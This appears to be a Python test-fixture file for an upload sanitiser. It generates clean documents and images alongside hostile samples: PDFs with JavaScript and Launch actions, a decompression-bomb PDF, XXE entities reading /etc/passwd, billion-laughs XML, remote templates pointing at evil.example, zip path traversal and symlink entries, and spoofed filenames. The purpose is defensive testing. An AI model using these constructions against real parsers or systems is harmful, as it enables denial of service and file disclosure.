# SPDX-License-Identifier: MIT
"""Files to keep, and files that pretend: each is (name, bytes), all made here."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf
from PIL import Image, PngImagePlugin

TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/'
    '2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships">{}</Relationships>'
)
WORDS = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:body></w:document>"
)
SHEET = '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MB = 1024 * 1024


def relation(kind: str, target: str, mode: str = "External") -> str:
    return RELATIONS.format(
        f'<Relationship Id="r1" Type="{KIND}{kind}" Target="{target}" TargetMode="{mode}"/>'
    )


def archive(parts: dict[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as out:
        for name, content in parts.items():
            out.writestr(name, content)
    return held.getvalue()


def word(**more: str | bytes) -> bytes:
    parts = {
        "[Content_Types].xml": TYPES,
        "word/document.xml": WORDS.format("Programme of the day"),
    }
    return archive({**parts, **{name.replace("__", "/"): text for name, text in more.items()}})


def word_with(parts: dict[str, str | bytes]) -> bytes:
    plain = {"[Content_Types].xml": TYPES, "word/document.xml": WORDS.format("Programme")}
    return archive({**plain, **parts})


def excel_with(parts: dict[str, str | bytes]) -> bytes:
    return archive({"[Content_Types].xml": TYPES, "xl/workbook.xml": SHEET, **parts})


def pdf(change=None, **save) -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    if change:
        change(made)
    held = io.BytesIO()
    made.save(held, **save)
    return held.getvalue()


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), **save) -> bytes:
    held = io.BytesIO()
    Image.new("RGB", size, "teal").save(held, kind, **save)
    return held.getvalue()


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = "Taken at a private address"
    exif[0x0112] = 6  # lies on its side
    return exif


def _png_of(width: int, height: int) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0" * min((width // 8 + 1) * height, 5 * MB))
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def clean() -> Iterator[tuple[str, bytes]]:
    """What honest programs make; every one has to be kept."""
    text_png = PngImagePlugin.PngInfo()
    text_png.add_text("Comment", "made with a drawing program")
    yield from _clean_pdfs()
    yield "photo.jpg", picture("JPEG", exif=_exif())
    yield "photo.JPEG", picture("JPEG", (64, 48), quality=80)
    yield "cmyk.jpg", _in_mode("CMYK", "JPEG")
    yield "scan.png", picture("PNG", pnginfo=text_png, dpi=(300, 300))
    yield "clear.png", _in_mode("RGBA", "PNG")
    yield "palette.png", _in_mode("P", "PNG")
    yield "grey16.png", _in_mode("I;16", "PNG")
    yield from _clean_office()
    yield "notes.txt", "Cinio gyda’r Prif Gwnstabl – 7pm\r\n".encode()
    yield "notes-windows.txt", "Dinner – £1,200".encode("cp1252")
    yield "notes-wide.txt", "Dinner – £1,200".encode("utf-16")
    yield "guests.csv", b"\xef\xbb\xbfname,organisation\r\nR Ellery,Meridian\r\n"
    yield "invite.eml", b"From: a@host.example\r\nSubject: Dinner\r\n\r\nDo come.\r\n"
    yield "invite.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"


def _clean_pdfs() -> Iterator[tuple[str, bytes]]:
    opens_at = {"/OpenAction": pikepdf.Array([0, pikepdf.Name("/Fit")])}
    yield "agenda.pdf", pdf()
    yield "agenda-packed.pdf", pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield "agenda-linear.pdf", pdf(linearize=True)
    yield "agenda-newline.pdf", pdf() + b"\r\n"
    yield "opens-at-page.pdf", pdf(lambda made: made.Root.update(opens_at))
    yield "goes-to-page.pdf", pdf(_go_to)
    yield "owner-locked.pdf", pdf(encryption=pikepdf.Encryption(owner="secret", user=""))
    yield "dots.in.the.name.v2.pdf", pdf()
    yield "space in the name .pdf", pdf()


def _clean_office() -> Iterator[tuple[str, bytes]]:
    yield "letter.docx", word()
    yield (
        "letter-with-link.docx",
        word_with({"word/_rels/document.xml.rels": relation("hyperlink", "https://host.example/")}),
    )
    yield (
        "letter-with-picture.docx",
        word_with(
            {"word/media/image1.png": picture(), "word/media/image2.svg": "<svg><path/></svg>"}
        ),
    )
    yield (
        "letter-with-chart.docx",
        word_with({"word/embeddings/Microsoft_Excel_Sheet.xlsx": excel_with({})}),
    )
    yield (
        "letter-of-sharepoint.docx",
        word_with(
            {"customXml/item1.xml": '<?xml version="1.0" encoding="utf-16"?><p/>'.encode("utf-16")}
        ),
    )
    yield "letter-with-folders.docx", word_with({"word/": "", "docProps/thumbnail.emf": b"\1\0"})
    yield "prices.xlsx", excel_with({"xl/worksheets/sheet1.xml": "<worksheet/>"})
    yield "prices-printed.xlsx", excel_with({"xl/printerSettings/printerSettings1.bin": b"\0\1"})
    yield (
        "prices-linked.xlsx",
        excel_with(
            {"xl/externalLinks/_rels/a.xml.rels": relation("externalLinkPath", "other.xlsx")}
        ),
    )


def _in_mode(mode: str, kind: str) -> bytes:
    held = io.BytesIO()
    Image.new(mode, (20, 10)).save(held, kind)
    return held.getvalue()


def _go_to(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoTo, D=pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])
    )


def hostile() -> Iterator[tuple[str, bytes, str]]:
    """What must not be kept as it is, with a word of the sentence that says why."""
    yield from _hostile_pdfs()
    yield from _hostile_pictures()
    yield from _hostile_office()
    yield from _hostile_archives()
    yield from _hostile_text()
    yield from _hostile_names()


def _action(**action: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(**action)


def _hostile_pdfs() -> Iterator[tuple[str, bytes, str]]:
    script = _action(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    launch = _action(S=pikepdf.Name.Launch, F="calc.exe")
    yield "polyglot-zip.pdf", pdf() + archive({"a.txt": "x"}), "added after the end"
    yield "polyglot-zip-marked.pdf", _zip_with_end(), "archive at once"
    yield "polyglot-in-front.pdf", b"<html>" + pdf(), "not a PDF"
    yield "not-a-pdf.pdf", b"MZ\x90\0 program", "not a PDF"
    yield "cut-short.pdf", pdf()[:200], "added after the end"
    yield "empty-shell.pdf", b"%PDF-1.7\n%%EOF", "damaged"
    yield "nothing-inside.pdf", b"%PDF-1.7\n" + b"\0" * 500 + b"%%EOF", "damaged"
    yield (
        "script-on-opening.pdf",
        pdf(lambda made: made.Root.update({"/OpenAction": script})),
        "runs a program",
    )
    yield "script-in-names.pdf", pdf(_script_in_names), "runs a program"
    yield (
        "script-on-page.pdf",
        pdf(lambda made: made.pages[0].update({"/AA": {"/O": script}})),
        "runs a program",
    )
    yield (
        "script-packed.pdf",
        pdf(_script_in_names, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "runs a program",
    )
    yield (
        "script-spelt.pdf",
        pdf(_script_in_names).replace(b"/JavaScript", b"/Java#53cript"),
        "runs a program",
    )
    yield (
        "script-in-form.pdf",
        pdf(lambda made: made.Root.update({"/AcroForm": {"/XFA": made.make_stream(b"<xdp/>")}})),
        "runs a program",
    )
    yield (
        "launches.pdf",
        pdf(lambda made: made.Root.update({"/OpenAction": launch})),
        "runs a program",
    )
    yield "launches-from-link.pdf", pdf(_launching_link), "runs a program"
    yield "launches-next.pdf", pdf(_launch_next), "runs a program"
    yield "carries-file.pdf", pdf(_carry), "other files inside"
    yield "locked.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "password"
    yield "bomb.pdf", bomb_pdf(1500), "too much room"


def _zip_with_end() -> bytes:
    """A zip whose comment ends as a PDF ends, behind a whole PDF."""
    held = io.BytesIO(pdf())
    with zipfile.ZipFile(held, "a") as out:
        out.writestr("a.txt", "x")
        out.comment = b"\n%%EOF"
    return held.getvalue()


def _script_in_names(made: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    held = made.make_indirect(script)
    made.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", held]))
    )


def _launching_link(made: pikepdf.Pdf) -> None:
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 9, 9],
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe"),
    )
    made.pages[0].Annots = pikepdf.Array([link])


def _launch_next(made: pikepdf.Pdf) -> None:
    _go_to(made)
    made.Root.OpenAction.Next = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")


def _carry(made: pikepdf.Pdf) -> None:
    made.attachments["program.exe"] = b"MZ"


def bomb_pdf(megabytes: int) -> bytes:
    """A packed object of 1 MB that unfolds to this size."""
    packed = _packed(b"4 0 <<>> ", megabytes)
    starts: dict[int, int] = {}
    out = b"%PDF-1.5\n"
    for number, body in (
        (1, b"<</Type/Catalog/Pages 2 0 R/X 4 0 R>>"),
        (2, b"<</Type/Pages/Kids[]/Count 0>>"),
        (
            3,
            b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
            % (len(packed), packed),
        ),
    ):
        starts[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = [(0, 0), (1, starts[1]), (1, starts[2]), (1, starts[3]), (2, 3), (1, len(out))]
    rows = b"".join(bytes([kind]) + where.to_bytes(4) + b"\0\0" for kind, where in table)
    out += b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    return out + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % out.index(b"5 0 obj")


def _packed(head: bytes, megabytes: int) -> bytes:
    """What zlib makes of this head and so many blanks, without packing a gigabyte.

    A megabyte after a full flush is packed the same each time: it is packed once and repeated.
    """
    blanks = b" " * MB
    packing = zlib.compressobj(9)
    begun = packing.compress(head) + packing.flush(zlib.Z_FULL_FLUSH)
    one = packing.compress(blanks) + packing.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS).flush()
    check = zlib.adler32(head)
    for _ in range(megabytes):
        check = zlib.adler32(blanks, check)
    return begun + one * megabytes + end + check.to_bytes(4)


def _hostile_pictures() -> Iterator[tuple[str, bytes, str]]:
    yield "huge.png", _png_of(100_000, 100_000), "50 million pixels"
    yield "tall.png", _png_of(8, 200_000), "50 million pixels"
    yield "large.png", _png_of(9_000, 9_000), "50 million pixels"
    yield "cut-short.png", picture()[:60], "damaged"
    yield "page.png", b"<html><script>alert(1)</script></html>", "damaged"
    yield "gif-named.png", picture("GIF"), "damaged"
    yield "gif-script.jpg", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//", "damaged"
    yield "tiff-named.jpg", picture("TIFF"), "damaged"


def _hostile_office() -> Iterator[tuple[str, bytes, str]]:
    entity = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    laughs = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'
    relations = "word/_rels/document.xml.rels"
    yield from _running_office()
    yield "entity.docx", word_with({"word/document.xml": entity}), "damaged"
    yield "laughs.docx", word_with({"word/document.xml": laughs}), "damaged"
    yield "laughs-in-relations.docx", word_with({relations: laughs}), "damaged"
    yield "not-xml.docx", word_with({"word/document.xml": "<a>"}), "damaged"
    yield "only-a-zip.docx", archive({"a.txt": "x"}), "damaged"
    yield "word-named.xlsx", word(), "damaged"
    yield "old-word.docx", b"\xd0\xcf\x11\xe0" + b"\0" * 600, "damaged"


def _running_office() -> Iterator[tuple[str, bytes, str]]:
    macro_types = TYPES.replace(
        "application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    relations = "word/_rels/document.xml.rels"
    yield "macro.docx", word_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macro"
    yield "macro-hidden.docx", word_with({"word/VBAPROJECT.BIN": b"x"}), "macro"
    yield "macro-type.docx", word_with({"[Content_Types].xml": macro_types}), "macro"
    yield "macro-sheet.xlsx", excel_with({"xl/macrosheets/sheet1.xml": "<a/>"}), "macro"
    yield "active-x.docx", word_with({"word/activeX/activeX1.xml": "<a/>"}), "macro"
    yield (
        "template.docx",
        word_with({relations: relation("attachedTemplate", "http://evil.example/t.dotm")}),
        "elsewhere",
    )
    yield (
        "tracker.docx",
        word_with({relations: relation("image", "http://evil.example/1.gif")}),
        "elsewhere",
    )
    yield (
        "ole-link.xlsx",
        excel_with({"xl/_rels/workbook.xml.rels": relation("oleObject", "file:///c:/a.exe")}),
        "elsewhere",
    )
    yield (
        "dde.docx",
        word_with({"word/document.xml": "<w><w:instrText>DDEAUTO c:\\cmd</w:instrText></w>"}),
        "macro",
    )
    yield (
        "dde-wide.docx",
        word_with({"word/document.xml": "<w:instrText>DDE x</w:instrText>".encode("utf-16")}),
        "macro",
    )
    yield (
        "dde.xlsx",
        excel_with({"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd"/>'}),
        "macro",
    )
    yield (
        "script.docx",
        word_with({"word/media/image1.svg": "<svg><script>x</script></svg>"}),
        "macro",
    )
    yield "object.docx", word_with({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "macro"
    yield "carries.docx", word_with({"word/embeddings/setup.exe": b"MZ"}), "other files"
    yield (
        "carries-macro.docx",
        word_with({"word/embeddings/a.xlsx": excel_with({"xl/vbaProject.bin": b"x"})}),
        "macro",
    )
    yield (
        "nested.docx",
        word_with({"word/a.docx": word_with({"word/b.docx": word_with({"word/c.docx": word()})})}),
        "other files",
    )


def _hostile_archives() -> Iterator[tuple[str, bytes, str]]:
    yield "bomb.docx", word_with({"word/media/image1.png": b"\0" * (300 * MB // 10)}), "100 MB"
    yield (
        "bomb-of-many.docx",
        word_with({f"word/media/{n}.png": b"\0" * MB for n in range(200)}),
        "100 MB",
    )
    yield "bomb-that-lies.docx", _lying(word_with({"word/media/1.png": b"\0" * (5 * MB)})), "100 MB"
    yield "overlap.docx", _overlapping(), "damaged"
    yield "slip.docx", word_with({"../../etc/cron.d/x": "x"}), "damaged"
    yield "slip-windows.docx", word_with({"word\\..\\..\\x.xml": "<a/>"}), "damaged"
    yield "slip-root.docx", word_with({"/etc/passwd": "x"}), "damaged"
    yield "slip-drive.docx", word_with({"C:x.xml": "<a/>"}), "damaged"
    yield "link.docx", _linking(), "damaged"
    yield "twice.docx", word_with({"WORD/document.xml": "<a/>"}), "damaged"
    yield "in-front.docx", b"#!/bin/sh\n" + word(), "damaged"
    yield "in-front-of-zip.docx", b"PK\x03\x04" + word(), "damaged"
    yield "behind.docx", word() + b"<html>", "damaged"
    yield "commented.docx", _commented(), "damaged"
    yield "locked.docx", _locked(), "password"
    yield (
        "packed-otherwise.docx",
        archive({"[Content_Types].xml": TYPES, "word/document.xml": "<a/>"}, zipfile.ZIP_BZIP2),
        "damaged",
    )
    yield "wrong-sum.docx", _wrong_sum(), "damaged"
    yield "cut-short.docx", word()[:-30], "damaged"


def _lying(data: bytes) -> bytes:
    """The same archive with a table that says that everything is small."""
    size = struct.pack("<I", 5 * MB)
    return data.replace(size, struct.pack("<I", 10))


def _overlapping() -> bytes:
    data = word_with({"word/media/1.png": b"x" * 100, "word/media/2.png": b"x" * 100})
    with zipfile.ZipFile(io.BytesIO(data)) as made:
        first, second = made.getinfo("word/media/1.png"), made.getinfo("word/media/2.png")
    return data.replace(
        struct.pack("<I", second.header_offset) + b"word/media/2.png",
        struct.pack("<I", first.header_offset) + b"word/media/2.png",
    )


def _linking() -> bytes:
    held = io.BytesIO(word())
    with zipfile.ZipFile(held, "a") as out:
        link = zipfile.ZipInfo("word/media/image9.png")
        link.create_system = 3
        link.external_attr = 0o120777 << 16
        out.writestr(link, "/etc/passwd")
    return held.getvalue()


def _commented() -> bytes:
    held = io.BytesIO(word())
    with zipfile.ZipFile(held, "a") as out:
        out.comment = b"<script>alert(1)</script>"
    return held.getvalue()


def _locked() -> bytes:
    data = bytearray(word())
    at = data.index(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 1)
    return bytes(data)


def _wrong_sum() -> bytes:
    data = archive(
        {"[Content_Types].xml": TYPES, "word/document.xml": "<a>1</a>"}, zipfile.ZIP_STORED
    )
    return data.replace(b"<a>1</a>", b"<a>2</a>")


def _hostile_text() -> Iterator[tuple[str, bytes, str]]:
    attached = (
        b"From: a@host.example\r\nSubject: Dinner\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nHi\r\n"
        b'--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment;\r\n filename="%s"\r\n\r\n'
        b"x\r\n--b--\r\n"
    )
    inner = b"From: b@host.example\r\nSubject: FW\r\nContent-Type: message/rfc822\r\n\r\n"
    yield "program.txt", b"MZ\x90\0\3\0", "plain text"
    yield "nulls.csv", b"a,b\0c\r\n", "plain text"
    yield "colours.txt", b"\x1b[2Jgone", "plain text"
    yield "odd-wide.txt", b"\xff\xfeA\0\x01\0B\0", "plain text"
    yield "page.ics", b"<html>", "calendar file"
    yield "words.eml", b"Just some words", "not a message"
    yield "nulls.eml", b"From: a@b\r\nSubject: x\r\n\r\n\0", "not a message"
    yield "program-inside.eml", attached % b"bill.pdf.exe", "carries “bill.pdf.exe”"
    yield "archive-inside.eml", attached % b"=?utf-8?Q?bill=2Ezip?=", "carries “bill.zip”"
    yield "program-deeper.eml", inner + inner + attached % b"run.js", "carries “run.js”"
    yield "endless-parts.eml", attached[:-10] % b"a" + b"--b\r\n\r\nx\r\n" * 5000, "more parts"
    yield "endless-messages.eml", inner * 60, "more parts"


def _hostile_names() -> Iterator[tuple[str, bytes, str]]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield "drawing.svg", svg, "run programs"
    yield "page.html", b"<script>alert(1)</script>", "run programs"
    yield "page.PDF.HTML", b"<script>alert(1)</script>", "run programs"
    yield "bundle.zip", archive({"a.txt": "x"}), "archive"
    yield "bundle.tar.gz", b"\x1f\x8b", "archive"
    yield "letter.docm", word(), "macros"
    yield "letter.doc", b"\xd0\xcf\x11\xe0", "older format"
    yield "invite.msg", b"\xd0\xcf\x11\xe0", "Outlook's own format"
    yield "photo.heic", b"x", "picture format"
    yield "slides.pptx", b"x", "Save it as a PDF"
    yield "bill.pdf.exe", b"MZ", "program"
    yield "bill.pdf\0.exe", b"MZ", "program"
    yield "annual\u202efdp.exe", b"MZ", "program"
    yield "link.lnk", b"L", "program"
    yield "README", b"text", "Upload a PDF"
    yield ".pdf", b"", "is empty"
    yield "nothing.pdf", b"", "is empty"
